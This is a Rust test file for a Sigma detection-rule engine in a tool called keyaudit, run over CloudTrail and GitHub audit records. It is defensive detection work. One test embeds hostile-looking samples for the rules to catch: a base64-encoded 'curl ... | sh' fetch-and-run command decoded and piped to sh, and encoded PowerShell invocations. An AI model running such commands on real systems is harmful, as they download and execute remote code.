//! Sigma rules (tests/data/sigma/) over raw records: each supported feature, log-source
//! filtering, a malformed rule reported by its path while the others run, findings per
//! rule, key and window, deduplicated across runs, and incremental runs.

use chrono::{TimeZone, Utc};
use keyaudit::model::{from_millis, Category, Event, Key, Outcome, Severity};
use keyaudit::sigma::{self, Engine, Record, RuleSet, Scratch, SigmaConfig};
use keyaudit::store::{FindingQuery, Store};
use serde_json::json;
use std::path::PathBuf;

fn data(p: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/sigma")
        .join(p)
}

fn rules() -> RuleSet {
    let set = RuleSet::load(&[data("rules")]);
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    assert_eq!(set.rules.len(), 9);
    set
}

/// Whether the rule with this id (the suffix of its UUID) matches the record.
fn hit(set: &RuleSet, id: &str, record: &serde_json::Value) -> bool {
    let rule = set
        .rules
        .iter()
        .find(|r| r.id.ends_with(id))
        .unwrap_or_else(|| panic!("no rule {id}"));
    let text = record.to_string();
    rule.matches(&Record::new(&text))
}

fn trail(name: &str, source: &str) -> serde_json::Value {
    json!({
        "eventVersion": "1.08",
        "eventTime": "2026-11-03T10:00:00Z",
        "eventSource": source,
        "eventName": name,
        "awsRegion": "eu-west-1",
        "sourceIPAddress": "203.0.113.50",
        "userAgent": "aws-cli/2.15",
        "userIdentity": {
            "type": "IAMUser",
            "arn": "arn:aws:iam::111122223333:user/ana",
            "userName": "ana",
            "accessKeyId": "AKIAEXAMPLE0000000001"
        },
        "requestParameters": {},
        "eventID": "e-1"
    })
}

#[test]
fn nested_fields_lists_and_not() {
    let set = rules();
    let mut e = trail("CreateAccessKey", "iam.amazonaws.com");
    e["requestParameters"]["userName"] = json!("payroll-export");
    assert!(hit(&set, "0001", &e), "dotted path into requestParameters");
    e["requestParameters"]["userName"] = json!("Deploy-bot");
    assert!(
        !hit(&set, "0001", &e),
        "the filter (contains, any case) excludes it"
    );
    let e = trail("CreateUser", "iam.amazonaws.com");
    assert!(!hit(&set, "0001", &e));
}

#[test]
fn startswith_endswith_re_cidr_and_all_of_a_pattern() {
    let set = rules();
    let mut e = trail("GetObjectAcl", "s3.amazonaws.com");
    e["requestParameters"]["bucketName"] = json!("payroll-2026");
    assert!(hit(&set, "0002", &e));
    // A list of values is an OR: the second one matches too.
    e["eventName"] = json!("ListObjectsV2");
    assert!(hit(&set, "0002", &e));
    e["eventName"] = json!("PutObject");
    assert!(!hit(&set, "0002", &e), "startswith");
    e["eventName"] = json!("GetObject");
    e["requestParameters"]["bucketName"] = json!("payroll-2026-archive");
    assert!(!hit(&set, "0002", &e), "the regex is anchored");
    e["requestParameters"]["bucketName"] = json!("payroll-2026");
    e["sourceIPAddress"] = json!("10.20.30.40");
    assert!(!hit(&set, "0002", &e), "inside 10.0.0.0/8");
    e["sourceIPAddress"] = json!("192.0.2.77");
    assert!(!hit(&set, "0002", &e), "inside the second network");
    e["sourceIPAddress"] = json!("s3.amazonaws.com");
    assert!(
        hit(&set, "0002", &e),
        "a service name is no address in the office"
    );
    e["eventSource"] = json!("s3.example.org");
    assert!(!hit(&set, "0002", &e), "endswith");
}

#[test]
fn null_means_absent_or_null() {
    let set = rules();
    let mut e = trail("ConsoleLogin", "signin.amazonaws.com");
    e["additionalEventData"] = json!({"MFAUsed": "No"});
    assert!(hit(&set, "0003", &e), "no errorCode field");
    e["errorCode"] = json!(null);
    assert!(hit(&set, "0003", &e), "errorCode null");
    e["errorCode"] = json!("Failed authentication");
    assert!(!hit(&set, "0003", &e));
    e.as_object_mut().unwrap().remove("errorCode");
    e["additionalEventData"]["MFAUsed"] = json!("Yes");
    assert!(!hit(&set, "0003", &e));
}

#[test]
fn one_of_them_and_all_of_them_with_contains_all() {
    let set = rules();
    for name in [
        "ListUsers",
        "GetAccountAuthorizationDetails",
        "DescribeInstances",
    ] {
        assert!(
            hit(&set, "0004", &trail(name, "iam.amazonaws.com")),
            "{name}"
        );
    }
    assert!(!hit(&set, "0004", &trail("ListRoles", "iam.amazonaws.com")));

    let mut e = trail("GetCallerIdentity", "sts.amazonaws.com");
    e["userAgent"] = json!("Boto3/1.34 Python/3.12 Linux botocore/1.34");
    e["userIdentity"]["arn"] = json!("arn:aws:iam::111122223333:role/ci-runner");
    assert!(hit(&set, "0005", &e));
    e["userAgent"] = json!("Python/3.12 requests/2.31");
    assert!(!hit(&set, "0005", &e), "contains|all needs both");
    e["userAgent"] = json!("Boto3/1.34 Python/3.12");
    e["userIdentity"]["arn"] = json!("arn:aws:iam::111122223333:role/ci-runner-old");
    assert!(!hit(&set, "0005", &e), "all of them needs the role too");
}

#[test]
fn keywords_search_the_whole_record_without_case() {
    let set = rules();
    let mut e = trail("GetSecretValue", "secretsmanager.amazonaws.com");
    e["requestParameters"]["secretId"] =
        json!("arn:aws:secretsmanager:eu-west-1:1:secret:Prod/DB-Password-x1");
    assert!(hit(&set, "0006", &e));
    e["requestParameters"]["secretId"] = json!("stage/db-password");
    assert!(!hit(&set, "0006", &e));
}

#[test]
fn base64offset_windash_and_parentheses() {
    let set = rules();
    let mut e = trail("SendCommand", "ssm.amazonaws.com");
    // base64 of "x=1; curl http://203.0.113.9/x | sh"
    e["requestParameters"]["parameters"] = json!({"commands": ["echo eD0xOyBjdXJsIGh0dHA6Ly8yMDMuMC4xMTMuOS94IHwgc2g= | base64 -d | sh"]});
    assert!(hit(&set, "0007", &e), "base64offset inside a list field");
    e["requestParameters"]["parameters"] = json!({"commands": ["powershell /enc SQBFAFgA"]});
    assert!(hit(&set, "0007", &e), "windash: /enc for -enc");
    e["requestParameters"]["parameters"] = json!({"commands": ["powershell \u{2013}enc SQBFAFgA"]});
    assert!(hit(&set, "0007", &e), "windash: en dash");
    e["requestParameters"]["parameters"] = json!({"commands": ["uptime"]});
    assert!(!hit(&set, "0007", &e));
    e["requestParameters"]["parameters"] = json!({"commands": ["powershell -enc SQBFAFgA"]});
    e["eventName"] = json!("ListCommands");
    assert!(!hit(&set, "0007", &e), "ssm and (...) needs the event name");
}

#[test]
fn logsource_selects_the_records_a_rule_reads() {
    let set = rules();
    let gh = json!({"action": "repo.access", "actor": "mallory", "org": "acme",
                    "repo": "acme/payroll", "visibility": "public", "@timestamp": 1762164000000u64});
    assert!(hit(&set, "0008", &gh));
    // The same fields in a CloudTrail record are not GitHub's audit log.
    let mut ct = trail("repo.access", "iam.amazonaws.com");
    ct["action"] = json!("repo.access");
    ct["visibility"] = json!("public");
    assert!(!hit(&set, "0008", &ct));
    // A rule without product or service reads every source.
    let gh = json!({"action": "git.clone", "actor": "contractor-jdoe", "org": "acme"});
    assert!(hit(&set, "0009", &gh));
    let mut ct = trail("GetObject", "s3.amazonaws.com");
    ct["userIdentity"]["userName"] = json!("contractor-jdoe");
    assert!(hit(&set, "0009", &ct));
}

#[test]
fn a_malformed_rule_is_reported_by_path_and_the_others_load() {
    let set = RuleSet::load(&[data("broken")]);
    assert_eq!(set.rules.len(), 1, "good.yml loads");
    let mut errs: Vec<String> = set.errors.iter().map(ToString::to_string).collect();
    errs.sort();
    assert_eq!(errs.len(), 3, "{errs:?}");
    assert!(
        errs[0].contains("bad_condition.yml") && errs[0].contains("`filter` names no search"),
        "{}",
        errs[0]
    );
    assert!(
        errs[1].contains("bad_modifier.yml") && errs[1].contains("`sounds_like`"),
        "{}",
        errs[1]
    );
    assert!(errs[1].contains("detection.selection"), "{}", errs[1]);
    assert!(
        errs[2].contains("bad_yaml.yml") && errs[2].contains("line"),
        "{}",
        errs[2]
    );
    let missing = RuleSet::load(&[data("no-such-dir")]);
    assert!(missing.errors[0]
        .to_string()
        .contains("no-such-dir: no such file"));
}

fn cloudtrail_event(i: i64, key: &str, name: &str) -> Event {
    let t = Utc
        .with_ymd_and_hms(2026, 11, 3, 9, 0, 0)
        .unwrap()
        .timestamp_millis()
        + i * 60_000;
    let mut raw = trail(name, "iam.amazonaws.com");
    raw["eventID"] = json!(format!("ev-{i}"));
    raw["userIdentity"]["accessKeyId"] = json!(key);
    Event {
        provider: "trail".into(),
        id: format!("ev-{i}"),
        time: from_millis(t),
        key_id: key.into(),
        principal: None,
        action: name.into(),
        scope: None,
        source_ip: Some("203.0.113.50".into()),
        user_agent: None,
        outcome: Outcome::Success,
        status_code: None,
        request_id: None,
        records: None,
        raw: Some(raw.to_string()),
    }
}

fn store_with(events: &[Event]) -> Store {
    let mut store = Store::open_in_memory().unwrap();
    store.ensure_provider("trail", "import", None).unwrap();
    let keys: Vec<Key> = ["AKIAONE", "AKIATWO"]
        .iter()
        .map(|k| Key::seen_in_logs("trail", k))
        .collect();
    store.upsert_keys("trail", &keys, Utc::now()).unwrap();
    store.insert_events("trail", events, None).unwrap();
    store
}

fn sigma_findings(store: &Store) -> Vec<keyaudit::model::Finding> {
    let mut f: Vec<_> = store
        .findings(&FindingQuery::default())
        .unwrap()
        .into_iter()
        .filter(|f| f.category == Category::Sigma)
        .collect();
    f.sort_by(|a, b| a.key_id.cmp(&b.key_id).then(a.title.cmp(&b.title)));
    f
}

#[test]
fn matches_become_one_finding_per_rule_key_and_window_across_runs() {
    let now = Utc.with_ymd_and_hms(2026, 11, 4, 0, 0, 0).unwrap();
    let mut evs: Vec<Event> = (0..6)
        .map(|i| cloudtrail_event(i, if i < 4 { "AKIAONE" } else { "AKIATWO" }, "ListUsers"))
        .collect();
    evs.push(cloudtrail_event(10, "AKIAONE", "GetUser"));
    let mut store = store_with(&evs);
    let set = rules();
    let cfg = SigmaConfig::default();
    let r = sigma::run(&mut store, &set, &cfg, now).unwrap();
    assert!(r.full);
    assert_eq!((r.events, r.matches, r.opened), (7, 6, 2));
    let f = sigma_findings(&store);
    assert_eq!(f.len(), 2);
    assert_eq!(f[0].key_id, "AKIAONE");
    assert_eq!(f[0].title, "Reconnaissance calls by an access key");
    assert_eq!(f[0].rule, "sigma:3b1c8a34-0b6e-4c39-9b1a-7a1e5d2c0004");
    assert_eq!(f[0].category, Category::Sigma);
    assert_eq!(f[0].severity, Severity::Low);
    assert_eq!(f[0].evidence, ["ev-0", "ev-1", "ev-2", "ev-3"]);
    assert!(
        f[0].explanation.contains("level low"),
        "{}",
        f[0].explanation
    );
    assert_eq!(f[1].evidence, ["ev-4", "ev-5"]);

    // Nothing new: no events read, nothing written.
    let again = sigma::run(&mut store, &set, &cfg, now).unwrap();
    assert!(!again.full);
    assert_eq!((again.events, again.opened, again.updated), (0, 0, 0));

    // New events of the same window extend the finding; the next day opens another.
    let more = vec![
        cloudtrail_event(20, "AKIAONE", "DescribeRegions"),
        cloudtrail_event(24 * 60 + 5, "AKIAONE", "ListUsers"),
    ];
    store.insert_events("trail", &more, None).unwrap();
    let inc = sigma::run(&mut store, &set, &cfg, now).unwrap();
    assert_eq!((inc.events, inc.opened, inc.updated), (2, 1, 1));
    let f = sigma_findings(&store);
    assert_eq!(f.len(), 3);
    let one: Vec<_> = f.iter().filter(|x| x.key_id == "AKIAONE").collect();
    assert!(one
        .iter()
        .any(|x| x.evidence == ["ev-0", "ev-1", "ev-2", "ev-3", "ev-20"]));
    assert!(one
        .iter()
        .any(|x| x.evidence == [format!("ev-{}", 24 * 60 + 5)]));

    // The built-in rules' full run does not resolve Sigma findings.
    keyaudit::detect::detect_full(&mut store, &Default::default(), now).unwrap();
    assert!(sigma_findings(&store)
        .iter()
        .all(|x| x.status == keyaudit::model::FindingStatus::Open));
}

#[test]
fn evidence_is_capped_and_a_changed_rule_set_reruns_everything() {
    let now = Utc.with_ymd_and_hms(2026, 11, 4, 0, 0, 0).unwrap();
    let evs: Vec<Event> = (0..30)
        .map(|i| cloudtrail_event(i, "AKIAONE", "ListUsers"))
        .collect();
    let mut store = store_with(&evs);
    let cfg = SigmaConfig {
        evidence_cap: 5,
        ..Default::default()
    };
    let set = rules();
    sigma::run(&mut store, &set, &cfg, now).unwrap();
    assert_eq!(sigma_findings(&store)[0].evidence.len(), 5);

    let mut other = RuleSet::default();
    other.add_text(
        &data("inline.yml"),
        "title: Any IAM call\nid: iam-any\nlevel: critical\nlogsource: {product: aws, service: cloudtrail}\n\
         detection:\n  s:\n    eventSource: iam.amazonaws.com\n  condition: s\n",
    );
    other.fingerprint = "other".into();
    let r = sigma::run(&mut store, &other, &cfg, now).unwrap();
    assert!(r.full);
    assert_eq!((r.events, r.matches, r.opened), (30, 30, 1));
    let crit: Vec<_> = sigma_findings(&store)
        .into_iter()
        .filter(|f| f.severity == Severity::Critical)
        .collect();
    assert_eq!(crit.len(), 1);
    assert_eq!(crit[0].rule, "sigma:iam-any");
}

/// Runs the real binary with a private environment.
fn keyaudit(dir: &std::path::Path, args: &[&str]) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_keyaudit"))
        .args(args)
        .env("XDG_CONFIG_HOME", dir.join("xdg-config"))
        .env("XDG_DATA_HOME", dir.join("xdg-data"))
        .env("XDG_STATE_HOME", dir.join("xdg-state"))
        .env_remove("KEYAUDIT_DB")
        .env_remove("KEYAUDIT_CONFIG")
        .output()
        .expect("run keyaudit")
}

#[test]
fn detect_runs_configured_and_given_rule_dirs_and_names_a_broken_file() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("case.db");
    let db = db.to_str().unwrap();
    let log = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/import/cloudtrail-events.jsonl"
    );
    let cfg = dir.path().join("config.toml");
    let rules = data("cli");
    std::fs::write(
        &cfg,
        format!("[detect]\nsigma = [{:?}]\n", rules.to_str().unwrap()),
    )
    .unwrap();
    let cfg = cfg.to_str().unwrap();
    let o = keyaudit(dir.path(), &["--config", cfg, "--db", db, "import", log]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let broken = data("broken");
    let o = keyaudit(
        dir.path(),
        &[
            "--config",
            cfg,
            "--db",
            db,
            "detect",
            "--sigma",
            broken.to_str().unwrap(),
        ],
    );
    let (out, err) = (
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr),
    );
    assert!(o.status.success(), "{err}");
    assert!(
        err.contains("sigma: skipped rule file") && err.contains("bad_yaml.yml"),
        "{err}"
    );
    assert!(
        err.contains("bad_modifier.yml: detection.selection"),
        "{err}"
    );
    assert!(out.contains("sigma: 2 rules over 3 events"), "{out}");
    let o = keyaudit(
        dir.path(),
        &[
            "--config",
            cfg,
            "--db",
            db,
            "findings",
            "--category",
            "sigma",
            "--format",
            "json",
        ],
    );
    let list: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let list = list.as_array().unwrap();
    assert_eq!(list.len(), 1, "{list:?}");
    assert_eq!(list[0]["title"], "DynamoDB table deleted by a partner key");
    assert_eq!(list[0]["severity"], "critical");
    assert_eq!(list[0]["category"], "sigma");
    assert_eq!(list[0]["evidence"].as_array().unwrap().len(), 1);
    // The same rules again read no event again.
    let o = keyaudit(
        dir.path(),
        &[
            "--config",
            cfg,
            "--db",
            db,
            "detect",
            "--sigma",
            broken.to_str().unwrap(),
        ],
    );
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("sigma: 2 rules over 0 new events"), "{out}");
    // Another rule set reads every event again; the finding is not duplicated.
    let o = keyaudit(dir.path(), &["--config", cfg, "--db", db, "detect"]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("sigma: 1 rules over 3 events"), "{out}");
    assert!(out.contains("0 new, 0 updated findings"), "{out}");
}

/// Compiles one rule from its text.
fn inline(text: &str) -> RuleSet {
    let mut set = RuleSet::default();
    set.add_text(&data("inline.yml"), text);
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    set
}

fn matches_inline(set: &RuleSet, record: &serde_json::Value) -> bool {
    let text = record.to_string();
    set.rules[0].matches(&Record::new(&text))
}

#[test]
fn exists_numbers_cased_base64_and_regex_flags() {
    let set = inline(
        "title: t\nlogsource: {product: aws}\ndetection:\n  \
         has_error:\n    errorCode|exists: true\n  \
         big:\n    responseElements.count|gte: 1000\n  \
         cased:\n    eventName|cased: GetObject\n  \
         b64:\n    requestParameters.token|base64: 'admin:secret'\n  \
         re_i:\n    userAgent|re|i: '^BOTO3/'\n  \
         condition: 1 of them\n",
    );
    let base = trail("X", "s3.amazonaws.com");
    assert!(!matches_inline(&set, &base));
    let mut e = base.clone();
    e["errorCode"] = json!(null);
    assert!(matches_inline(&set, &e), "exists holds for a null field");
    let mut e = base.clone();
    e["responseElements"] = json!({"count": 5000});
    assert!(matches_inline(&set, &e), "gte on a number");
    e["responseElements"] = json!({"count": "999"});
    assert!(!matches_inline(&set, &e), "gte on text below");
    let mut e = base.clone();
    e["eventName"] = json!("GetObject");
    assert!(matches_inline(&set, &e));
    e["eventName"] = json!("getobject");
    assert!(!matches_inline(&set, &e), "cased");
    let mut e = base.clone();
    e["requestParameters"]["token"] = json!("YWRtaW46c2VjcmV0");
    assert!(matches_inline(&set, &e), "base64 of admin:secret");
    let mut e = base.clone();
    e["userAgent"] = json!("Boto3/1.34 Python/3.12");
    assert!(matches_inline(&set, &e), "re with the i flag");
    // A rule for another product never reads CloudTrail records.
    let other = inline(
        "title: t\nlogsource: {product: github, service: audit}\ndetection:\n  \
         s:\n    eventName: X\n  condition: s\n",
    );
    assert!(!matches_inline(&other, &base));
}

/// Rules whose prefilter needs care: escapes, `not`, `null`, case, numbers, keywords.
fn prefilter_rules() -> RuleSet {
    let mut set = rules();
    let texts = [
        // An equality and a `contains` needle.
        "title: key for another\ndetection:\n  s:\n    eventName: CreateAccessKey\n    \
         userAgent|contains: 'aws-cli/2'\n  condition: s\n",
        // Only a `not`: every record without the value matches.
        "title: not reads\ndetection:\n  f:\n    eventName|startswith: Get\n  condition: not f\n",
        // Only `null`: records without an error match.
        "title: no error\ndetection:\n  s:\n    errorCode: null\n  condition: s\n",
        // A number written as an exponent is compared as serde_json writes it.
        "title: big count\ndetection:\n  s:\n    responseElements.count: '1000.0'\n  condition: s\n",
        // `cased`, a `?` wildcard, and a plain value.
        "title: cased\ndetection:\n  s:\n    eventName|cased: DeleteTable\n  condition: s\n",
        "title: wildcard\ndetection:\n  s:\n    userIdentity.userName: 'k?te'\n  condition: s\n",
        "title: kate\ndetection:\n  s:\n    userIdentity.userName: kate\n  condition: s\n",
        // A boolean compares as its text.
        "title: writes\ndetection:\n  s:\n    readOnly: 'false'\n    eventName|endswith: Policy\n  \
         condition: s\n",
    ];
    for (i, t) in texts.iter().enumerate() {
        set.add_text(&data(&format!("prefilter-{i}.yml")), t);
    }
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    set
}

/// Raw records written by hand, so their JSON escapes and case are exactly as stored.
const TRICKY: &[&str] = &[
    // `A` written as an escape, and an escaped slash inside the needle.
    r#"{"eventSource":"iam.amazonaws.com","eventName":"Create\u0041ccessKey","userAgent":"aws-cli\/2.15","userIdentity":{"userName":"ana"}}"#,
    // Another case than the rule's.
    r#"{"eventSource":"iam.amazonaws.com","eventName":"CREATEACCESSKEY","userAgent":"AWS-CLI/2.15","userIdentity":{"userName":"ana"}}"#,
    // The Kelvin sign lowercases to `k`.
    "{\"eventSource\":\"iam.amazonaws.com\",\"eventName\":\"GetUser\",\"userIdentity\":{\"userName\":\"\u{212A}ate\"}}",
    // No needle of any rule: only `not` and `null` rules can match.
    r#"{"eventSource":"s3.amazonaws.com","eventName":"PutObject","userIdentity":{"userName":"ana"}}"#,
    r#"{"eventSource":"s3.amazonaws.com","eventName":"GetObject","errorCode":"AccessDenied"}"#,
    // 1e3 is the number 1000.
    r#"{"eventSource":"s3.amazonaws.com","eventName":"ListObjects","responseElements":{"count":1e3}}"#,
    r#"{"eventSource":"dynamodb.amazonaws.com","eventName":"DeleteTable","readOnly":false}"#,
    r#"{"eventSource":"dynamodb.amazonaws.com","eventName":"deletetable","readOnly":true}"#,
    r#"{"eventSource":"iam.amazonaws.com","eventName":"PutUserPolicy","readOnly":false,"userIdentity":{"userName":"KATE"}}"#,
    // A keyword in another case, and one behind an escape.
    r#"{"eventSource":"secretsmanager.amazonaws.com","eventName":"GetSecretValue","requestParameters":{"secretId":"PROD/DB-PASSWORD"}}"#,
    r#"{"eventSource":"secretsmanager.amazonaws.com","eventName":"GetSecretValue","requestParameters":{"secretId":"prod\/db-password"}}"#,
    r#"{"action":"repo.access","actor":"mallory","org":"acme","visibility":"PUBLIC"}"#,
    "not json at all, prod-master-key",
];

#[test]
fn the_prefilter_never_skips_a_rule_that_matches() {
    let set = prefilter_rules();
    let engine = Engine::new(&set);
    let mut scratch = Scratch::default();
    let mut got = Vec::new();
    let mut matched = 0;
    for raw in TRICKY {
        let rec = Record::new(raw);
        let want: Vec<usize> = (0..set.rules.len())
            .filter(|&i| set.rules[i].matches(&rec))
            .collect();
        let left = engine.candidates(raw);
        for i in &want {
            assert!(
                left.contains(i),
                "rule {:?} matches {raw} but the prefilter skips it",
                set.rules[*i].title
            );
        }
        engine.matching(raw, &mut scratch, &mut got);
        assert_eq!(got, want, "{raw}");
        matched += want.len();
    }
    assert!(matched > 20, "the records exercise the rules: {matched}");
    let title = |t: &str| set.rules.iter().position(|r| r.title == t).unwrap();
    let hits = |raw: &str| {
        let rec = Record::new(raw);
        set.rules[title("key for another")].matches(&rec)
    };
    assert!(hits(TRICKY[0]), "escaped letters and slash still match");
    assert!(hits(TRICKY[1]), "case-insensitive");
    let rec = Record::new(TRICKY[2]);
    assert!(set.rules[title("kate")].matches(&rec), "K (Kelvin) is k");
    let rec = Record::new(TRICKY[5]);
    assert!(set.rules[title("big count")].matches(&rec), "1e3 is 1000.0");
}

#[test]
fn the_prefilter_leaves_out_rules_whose_text_is_absent() {
    let set = prefilter_rules();
    let engine = Engine::new(&set);
    // `not`, `null`, the number and `?` need nothing; every other rule names a value.
    assert_eq!(engine.unfiltered(), 4);
    let plain =
        r#"{"eventSource":"s3.amazonaws.com","eventName":"PutObject","errorCode":"AccessDenied"}"#;
    let left: Vec<&str> = engine
        .candidates(plain)
        .into_iter()
        .map(|i| set.rules[i].title.as_str())
        .collect();
    assert_eq!(left, ["not reads", "no error", "big count", "wildcard"]);
    // The same record with an escape anywhere is judged by every rule.
    let escaped = plain.replace("Put", r"P\u0075t");
    assert_eq!(engine.candidates(&escaped).len(), set.rules.len());
    // The needle in any case keeps its rule.
    let create = plain.replace("PutObject", "createaccesskey") + " AWS-CLI/2";
    assert!(engine.candidates(&create).contains(
        &set.rules
            .iter()
            .position(|r| r.title == "key for another")
            .unwrap()
    ));
}
